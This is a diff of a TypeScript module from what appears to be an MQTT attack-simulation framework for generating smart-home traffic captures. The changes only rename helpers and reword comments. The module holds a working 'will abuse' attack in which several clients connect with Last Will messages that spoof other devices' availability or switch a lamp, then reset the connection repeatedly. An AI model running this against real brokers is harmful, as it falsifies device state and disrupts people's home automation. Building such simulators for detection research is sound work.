@@ -1,21 +1,21 @@
-// Wills as a way to speak.
+// Will abuse: publishes through wills.
 
 import type { Attack } from '../attacker.js'
 import { connectPacket } from '../packets.js'
 
-/** Wills as a way to speak. */
+/** Will abuse: publishes through wills. */
 export const willAbuse: Attack = {
   name: 'will-abuse',
   summary:
-    "will abuse: 3 to 5 addresses connect with a will for somebody else's topic and break the connection, some 8 times a second each",
+    'will abuse: 3 to 5 addresses connect with a will on a topic of another client and reset the connection, about 8 times a second each',
   attackers: [3, 5],
   async run(attacker) {
     const {
-      chance,
+      random,
       scene: { home }
     } = attacker
-    // Mostly what others look at; one lamp is switched, too. What devices do in answer is benign, and should not be
-    // half of the capture.
+    // Mostly topics that others only read; one lamp is switched, too. The reactions of devices are benign and should
+    // not fill the capture.
     const topics = [
       ...home.namesOf('switch').map(name => `${home.base}/${name}/availability`),
       ...home.namesOf('tasmota').map(name => `tele/${name}/LWT`),
@@ -26,18 +26,18 @@ export const willAbuse: Attack = {
     for (let tries = 0; tries < 500 && !attacker.over; tries++) {
       const socket = await attacker.connect()
       if (socket === null) return
-      const clientId = chance.text(12)
+      const clientId = random.text(12)
       const will = {
-        topic: chance.oneOf(topics),
-        payload: chance.oneOf(['ON', 'OFF', 'offline', 'Offline', chance.text(chance.whole(10, 400))]),
-        qos: chance.oneOf([0, 1, 2] as const),
-        retain: chance.happens(0.5)
+        topic: random.oneOf(topics),
+        payload: random.oneOf(['ON', 'OFF', 'offline', 'Offline', random.text(random.integer(10, 400))]),
+        qos: random.oneOf([0, 1, 2] as const),
+        retain: random.chance(0.5)
       }
-      attacker.note(clientId, will.topic, will.payload)
-      await attacker.send(socket, connectPacket({ clientId, keepalive: chance.whole(1, 60), will }))
-      await attacker.pause(chance.between(20, 120))
+      attacker.logMessage(clientId, will.topic, will.payload)
+      await attacker.send(socket, connectPacket({ clientId, keepalive: random.integer(1, 60), will }))
+      await attacker.pause(random.between(20, 120))
       socket.resetAndDestroy()
-      await attacker.pause(chance.between(10, 100))
+      await attacker.pause(random.between(10, 100))
     }
   }
 }
